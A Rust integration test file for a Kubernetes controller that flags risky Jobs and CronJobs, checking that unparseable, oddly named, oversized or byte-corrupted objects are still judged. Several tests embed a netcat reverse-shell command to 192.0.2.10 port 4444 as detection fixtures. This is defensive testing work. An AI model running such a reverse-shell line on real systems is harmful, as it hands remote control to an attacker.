//! Objects that the API server stores and that typed clients cannot read, or that are large, or named to confuse: each
//! is judged like any other, and hides nothing beside it. Both by a controller that sees them arrive and by one that
//! finds them when it starts.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests say what they mean"
)]

mod support;

use std::sync::{Mutex, MutexGuard, PoisonError};

use k8s_openapi::api::batch::v1::{CronJob, Job};
use kube::api::ObjectList;
use serde_json::{Value, json};
use support::{BENIGN, ControlPlane, Jobrisk, REVERSE_SHELL, create, cron_job, job, rules, wait_for_report};

/// The largest report, as JSON without what the API server adds.
const MAX_REPORT_BYTES: usize = 16 * 1024;

/// A way to make an object that typed clients cannot read.
struct Trick {
    name: &'static str,
    make: fn(&mut Object),
}

/// An object on its way to the API server, as text: what is done to it need not have a place in a [`Value`].
struct Object {
    kind: &'static str,
    namespace: &'static str,
    name: String,
    json: Value,
    /// Stands in for `"FIELDS"`, which as a [`Value`] could not be written as deep.
    fields: String,
    /// Create it without the trick and put that on with an update.
    by_update: bool,
}

const TRICKS: [Trick; 10] = [
    Trick { name: "late", make: |object| object.template_time("creationTimestamp", "9999-12-31T23:59:59Z") },
    Trick {
        name: "later",
        make: |object| object.template_time("creationTimestamp", "9999-12-31T23:59:59-12:00"),
    },
    Trick {
        name: "deleted-late",
        make: |object| object.template_time("deletionTimestamp", "9999-12-31T23:59:59Z"),
    },
    Trick { name: "managed-late", make: |object| object.managed_fields("9999-12-31T23:59:59Z", 1) },
    Trick { name: "managed-later", make: |object| object.managed_fields("9999-12-31T23:59:59-12:00", 1) },
    Trick { name: "depth-121", make: |object| object.managed_fields("2020-01-01T00:00:00Z", 121) },
    Trick { name: "depth-200", make: |object| object.managed_fields("2020-01-01T00:00:00Z", 200) },
    Trick { name: "depth-2000", make: |object| object.managed_fields("2020-01-01T00:00:00Z", 2000) },
    Trick {
        name: "depth-200-put",
        make: |object| {
            object.managed_fields("2020-01-01T00:00:00Z", 200);
            object.by_update = true;
        },
    },
    Trick {
        name: "depth-2000-put",
        make: |object| {
            object.managed_fields("2020-01-01T00:00:00Z", 2000);
            object.by_update = true;
        },
    },
];

impl Object {
    fn new(kind: &'static str, namespace: &'static str, name: &str) -> Self {
        let json = match kind {
            "job" => job(namespace, name, REVERSE_SHELL),
            _ => cron_job(namespace, name, REVERSE_SHELL),
        };
        Self { kind, namespace, name: name.to_owned(), json, fields: String::new(), by_update: false }
    }

    fn template_time(&mut self, field: &str, time: &str) {
        let spec = &mut self.json["spec"];
        let spec = if self.kind == "job" { spec } else { &mut spec["jobTemplate"]["spec"] };
        spec["template"]["metadata"][field] = time.into();
    }

    fn managed_fields(&mut self, time: &str, depth: usize) {
        self.json["metadata"]["managedFields"] = json!([{
            "manager": "hostile", "operation": "Update", "apiVersion": "batch/v1",
            "time": time, "fieldsType": "FieldsV1", "fieldsV1": "FIELDS",
        }]);
        self.fields = format!("{}{{}}{}", "{\"f:x\":".repeat(depth), "}".repeat(depth));
    }

    fn text_of(&self, json: &Value) -> String {
        json.to_string().replace("\"FIELDS\"", &self.fields)
    }

    fn collection(&self) -> String {
        format!("/apis/batch/v1/namespaces/{}/{}s", self.namespace, self.kind)
    }

    fn url(&self) -> String {
        format!("{}/{}", self.collection(), self.name)
    }

    /// Stores it and gives it as it is stored.
    fn store(&self, plane: &ControlPlane) -> String {
        if self.by_update {
            create(plane, &Self::new(self.kind, self.namespace, &self.name).json);
            let stored = plane.kubectl_ok(&["get", "--raw", &self.url()]);
            let mut json: Value = serde_json::from_str(&stored).unwrap();
            json["metadata"]["managedFields"] = self.json["metadata"]["managedFields"].clone();
            plane.kubectl_ok_stdin(&["replace", "--raw", &self.url(), "-f", "-"], &self.text_of(&json));
        } else {
            let text = self.text_of(&self.json);
            plane.kubectl_ok_stdin(&["create", "--raw", &self.collection(), "-f", "-"], &text);
        }
        plane.kubectl_ok(&["get", "--raw", &self.url()])
    }

    fn report(&self) -> String {
        format!("{}-{}", self.kind, self.name)
    }
}

/// Whether the usual typed client can read a list with this object in it.
fn is_readable(object: &Object, stored: &str) -> bool {
    let list = format!(r#"{{"metadata":{{}},"items":[{stored}]}}"#);
    match object.kind {
        "job" => serde_json::from_str::<ObjectList<Job>>(&list).is_ok(),
        _ => serde_json::from_str::<ObjectList<CronJob>>(&list).is_ok(),
    }
}

/// Held by whoever ends the controller that the tests share.
fn alone() -> MutexGuard<'static, ()> {
    static ALONE: Mutex<()> = Mutex::new(());
    ALONE.lock().unwrap_or_else(PoisonError::into_inner)
}

fn begin(namespace: &str) -> &'static ControlPlane {
    let plane = ControlPlane::shared();
    plane.kubectl_ok(&["create", "namespace", namespace]);
    plane
}

/// Stores an object of each kind for each trick, with ordinary ones before and after.
fn store_all(plane: &ControlPlane, namespace: &'static str) -> Vec<Object> {
    let ordinary = |name: &str| {
        let objects = ["job", "cronjob"].map(|kind| Object::new(kind, namespace, name));
        for object in &objects {
            assert!(is_readable(object, &object.store(plane)));
        }
        objects
    };
    let mut all = Vec::from(ordinary("before"));
    for trick in TRICKS {
        for kind in ["job", "cronjob"] {
            let mut object = Object::new(kind, namespace, trick.name);
            (trick.make)(&mut object);
            let stored = object.store(plane);
            // Else the object is harmless, and what becomes of it shows nothing.
            assert!(!is_readable(&object, &stored), "{kind} {}: {stored}", trick.name);
            all.push(object);
        }
    }
    all.extend(ordinary("later-than-all"));
    all
}

/// The first two are the ordinary ones, a Job and a CronJob. What is found in these is found in all, and counts as much;
/// that something else is odd about the others may be found too.
fn assert_all_are_judged_alike(plane: &ControlPlane, objects: &[Object]) {
    let report_on = |object: &Object| wait_for_report(plane, object.namespace, &object.report(), |_| true);
    let ordinary = [report_on(&objects[0]), report_on(&objects[1])];
    for object in objects {
        let report = report_on(object);
        let (status, name) = (&report["status"], object.report());
        let ordinary = &ordinary[usize::from(object.kind != objects[0].kind)];
        let (found, expected) = (rules(&report), rules(ordinary));
        assert!(expected.contains(&"cmd-reverse-shell".to_owned()), "{expected:?}");
        assert!(expected.iter().all(|rule| found.contains(rule)), "{name}: {found:?} without {expected:?}");
        assert!(!found.contains(&"evd-unreadable".to_owned()), "{name}: {report:#}");
        assert_eq!(status["severity"], ordinary["status"]["severity"], "{name}");
        assert_eq!(status["explanation"]["command"], ordinary["status"]["explanation"]["command"], "{name}");
        assert_eq!(status["conditions"][0]["status"], "True", "{name}");
    }
}

#[test]
fn what_typed_clients_cannot_read_is_judged_at_arrival_and_at_start() {
    let plane = begin("arrive");
    let jobrisk = Jobrisk::shared();
    let objects = store_all(plane, "arrive");
    assert_all_are_judged_alike(plane, &objects);

    // A second controller would write the same; the first one must not be there when it looks.
    let guard = alone();
    jobrisk.terminate();
    plane.kubectl_ok(&["create", "namespace", "found"]);
    let objects = store_all(plane, "found");
    jobrisk.run();
    drop(guard);
    jobrisk.wait_ready();
    assert_all_are_judged_alike(plane, &objects);
    create(plane, &job("found", "last", BENIGN));
    wait_for_report(plane, "found", "job-last", |_| true);
    assert_eq!(jobrisk.errors(), Vec::<String>::new());
}

#[test]
fn names_do_not_confuse() {
    let plane = begin("names");
    Jobrisk::shared();
    // Of the same name; as if of the other kind; with dots and digits; the longest.
    let longest = ["j".repeat(63), "c".repeat(52)];
    let jobs = ["twin", "cronjob-twin", "a.b-1.c", "7", &longest[0]];
    let cron_jobs = ["twin", "job-twin", "a.b-1.c", "7", &longest[1]];
    for name in jobs {
        create(plane, &job("names", name, REVERSE_SHELL));
    }
    for name in cron_jobs {
        create(plane, &cron_job("names", name, BENIGN));
    }
    let subjects = jobs.map(|name| ("Job", name, "High")).into_iter();
    for (kind, name, severity) in subjects.chain(cron_jobs.map(|name| ("CronJob", name, "None"))) {
        let report = format!("{}-{name}", kind.to_lowercase());
        let report = wait_for_report(plane, "names", &report, |_| true);
        let subject = &report["spec"]["subject"];
        assert_eq!((&subject["kind"], &subject["name"]), (&json!(kind), &json!(name)));
        assert_eq!(report["status"]["severity"], severity, "{report}");
    }
    let reports = plane.kubectl_ok(&["get", "jobriskreports", "--namespace=names", "-o", "name"]);
    assert_eq!(reports.lines().count(), jobs.len() + cron_jobs.len(), "{reports}");
}

#[test]
fn a_large_command_is_judged_and_its_report_is_small() {
    let plane = begin("large");
    Jobrisk::shared();
    let filler = "x".repeat(1_400_000);
    let command = ["/bin/sh", "-c", "nc 192.0.2.10 4444 -e /bin/sh", &filler];
    create(plane, &job("large", "args", &command));
    let one_word = format!("nc 192.0.2.10 4444 -e /bin/sh; echo {filler}");
    create(plane, &job("large", "script", &["/bin/sh", "-c", &one_word]));
    // What is too large to be read to its end says so; what was read of it counts all the same.
    for (name, expected) in
        [("job-args", &["cmd-reverse-shell"][..]), ("job-script", &["cmd-reverse-shell", "evd-unreadable"])]
    {
        let report = wait_for_report(plane, "large", name, |_| true);
        let found = rules(&report);
        assert!(expected.iter().all(|rule| found.iter().any(|found| found == rule)), "{name}: {found:?}");
        assert!(report.to_string().len() <= MAX_REPORT_BYTES, "{name}");
    }
}

#[test]
fn thousands_of_containers_are_all_counted_and_the_report_is_small() {
    const COUNT: usize = 5_000;
    let plane = begin("many");
    Jobrisk::shared();
    let containers: Vec<Value> = (0..COUNT)
        .map(|number| json!({ "name": format!("c{number}"), "image": "ncat", "terminationMessagePath": "/" }))
        .collect();
    let mut many = Object::new("job", "many", "containers");
    many.json["spec"]["template"]["spec"]["containers"] = containers.into();
    let stored = many.store(plane);
    let stored: Value = serde_json::from_str(&stored).unwrap();
    assert_eq!(stored["spec"]["template"]["spec"]["containers"].as_array().unwrap().len(), COUNT);
    let report = wait_for_report(plane, "many", "job-containers", |_| true);
    let status = &report["status"];
    let total = usize::try_from(status["findingsTotal"].as_u64().unwrap()).unwrap();
    assert!(total >= COUNT, "{report}");
    let listed = status["findings"].as_array().unwrap().len();
    assert_eq!(status["findingsOmitted"], total - listed);
    assert!(listed > 0 && report.to_string().len() <= MAX_REPORT_BYTES, "{}", report.to_string().len());
}

#[test]
fn d07_bytes_that_are_no_text_hide_nothing_beside_them() {
    let plane = begin("bytes");
    Jobrisk::shared();
    let shell = "nc 192.0.2.10 4444 -e /bin/sh";
    for (name, script, is_shell) in [
        ("behind", format!("{shell} # BYTES"), true),
        ("before", format!("echo BYTES; {shell}"), true),
        // The API server stores U+FFFD for each, and that is what a node would run: no `nc`.
        ("within", shell.replace("nc ", "nBYTESc "), false),
    ] {
        let json = job("bytes", name, &["/bin/sh", "-c", &script]).to_string();
        let (before, after) = json.split_once("BYTES").unwrap();
        let body = [before.as_bytes(), b"\xff\xfe\xc0\xaf\xed\xa0\x80", after.as_bytes()].concat();
        let file = plane.dir().join(format!("bytes-{name}.json"));
        std::fs::write(&file, body).unwrap();
        let path = "/apis/batch/v1/namespaces/bytes/jobs";
        plane.kubectl_ok(&["create", "--raw", path, "-f", &file.display().to_string()]);
        let stored = plane.kubectl_ok(&["get", "--raw", &format!("{path}/{name}")]);
        assert!(stored.contains('\u{fffd}'), "{stored}");
        let report = wait_for_report(plane, "bytes", &format!("job-{name}"), |_| true);
        let found = rules(&report).contains(&"cmd-reverse-shell".to_owned());
        assert_eq!(found, is_shell, "{name}: {report:#}");
        assert!(!rules(&report).contains(&"evd-unreadable".to_owned()), "{name}: {report:#}");
    }
}
